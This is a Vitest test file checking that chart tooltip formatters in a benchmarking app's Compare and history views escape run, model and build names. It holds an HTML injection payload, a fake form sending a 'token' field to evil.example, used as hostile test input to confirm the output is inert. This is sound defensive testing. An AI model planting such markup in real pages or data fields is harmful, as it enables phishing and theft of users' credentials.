import { describe, expect, it } from 'vitest';
import type { ComparedRun } from '../../src/shared/contract/compare';
import type { HistoryBuild, MetricHistory } from '../../src/shared/contract/history';
import { tradeOffOption } from '../../src/renderer/src/views/compare-trade-off';
import { historyChartOption } from '../../src/renderer/src/views/history-chart';

// Attack: ECharts writes a tooltip formatter's string into innerHTML, and an imported run names its own model,
// workload and build. The page's CSP stops scripts, not markup: a fake form or a look-alike dialog.
const HOSTILE = '<form action="https://evil.example"><input name=token></form><img src=x id=injected>';

function expectInert(html: string) {
  expect(html).not.toMatch(/<|>/);
  expect(html).toContain('&lt;form action=&quot;https://evil.example&quot;&gt;');
}

describe('chart tooltips show names from runs as text', () => {
  it('the Compare trade-off point', () => {
    const run = { label: `${HOSTILE} · demo`, ttftP95Ms: 12.5, outputTokensPerS: 40 } as ComparedRun;
    const option = tradeOffOption([run]);
    const [point] = option.series[0]!.data;
    expectInert(option.tooltip.formatter({ data: point as [number, number, string] }));
  });

  it('the history chart: a run dot and a build mean', () => {
    const build: HistoryBuild = {
      build: HOSTILE,
      label: HOSTILE,
      commit: HOSTILE,
      backend: HOSTILE,
      firstStartedAt: '2026-01-01T00:00:00Z',
      runs: [{ runId: `${HOSTILE}-run`, startedAt: '2026-01-01T00:00:00Z', value: 10, requests: 3, note: null }],
      mean: 10,
      interval: null,
      intervalNote: null,
      changePercent: null,
    };
    const history: MetricHistory = {
      metric: 'tpot_ms',
      statistic: 'p50',
      unit: 'ms',
      higherIsBetter: false,
      notes: [],
      configurations: [
        {
          key: 'k',
          model: { sha256: null, ref: HOSTILE },
          workload: { name: HOSTILE, revision: null },
          load: 'closed, concurrency 1',
          profileName: null,
          builds: [build],
        },
      ],
    };
    type Formatter = (item: unknown) => string;
    const option = historyChartOption(history, history.configurations[0]!) as { series: { tooltip?: { formatter: Formatter } }[] };
    const [runs, means] = option.series;
    const dot = runs!.tooltip!.formatter({ name: HOSTILE, value: [0, 10] });
    expect(dot).not.toMatch(/<|>/);
    expectInert(means!.tooltip!.formatter({ dataIndex: 0 }));
  });
});
